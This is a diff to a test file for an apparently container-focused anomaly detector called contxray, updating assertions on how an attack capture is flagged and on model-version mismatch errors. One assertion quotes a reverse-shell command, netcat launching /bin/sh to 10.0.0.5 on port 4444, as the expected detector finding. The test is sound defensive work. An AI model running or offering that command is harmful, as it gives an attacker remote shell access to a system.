@@ -61,8 +61,12 @@ test('attack capture: the injected window of web is flagged, its top reason the 
   // the ptrace of the attack fires the risky-syscall rule, reported first and as a rule
   assert.equal(top[0]!.feature, 'rule:new_risky_syscall');
   assert.match(top[0]!.text, /^rule: risky syscall never seen in baseline: ptrace called 12 times/);
-  assert.equal(top[1]!.feature, 'new_programs');
-  assert.match(top[1]!.text, /^new program \/bin\/nc started with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
+  // then the other rules the window fires: the port scan's burst of new destinations, the new program
+  assert.deepEqual(top.slice(0, 3).map((x) => x.feature), ['rule:new_risky_syscall', 'rule:new_destination_burst', 'rule:new_program']);
+  assert.match(top[1]!.text, /^rule: connected to \d+ destinations never seen in baseline \(\d hosts?\)/);
+  assert.match(top[2]!.text, /^rule: program never run in baseline: \/bin\/nc with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
+  // the forest's own reasons follow, the novelty facts first
+  assert.equal(top[3]!.feature, 'new_programs');
   const texts = top.map((x) => x.text).join('\n');
   assert.match(texts, /ptrace called 12 times/);
   assert.match(texts, /never seen in baseline/);
@@ -107,8 +111,8 @@ test('bad model files: another version, corrupt trees, not a model → one line,
   const model = f('model2.json');
   assert.equal(cli(['detect', '--baseline', f('base.arrow'), '--save-model', model]).status, 0);
   const j = JSON.parse(readFileSync(model, 'utf8'));
-  writeFileSync(f('v2.json'), JSON.stringify({ ...j, version: 2 }));
-  assertOneLine(cli(['detect', f('attack.arrow'), '--model', f('v2.json')]), 3, /model format version 2, this contxray reads version 1/);
+  writeFileSync(f('v1.json'), JSON.stringify({ ...j, version: 1 }));
+  assertOneLine(cli(['detect', f('attack.arrow'), '--model', f('v1.json')]), 3, /model format version 1, this contxray reads version 2/);
   const left = Buffer.from(j.groups[0].forest.left, 'base64');
   left.writeInt32LE(0, 0); // root's left child = itself: would loop forever
   j.groups[0].forest.left = left.toString('base64');
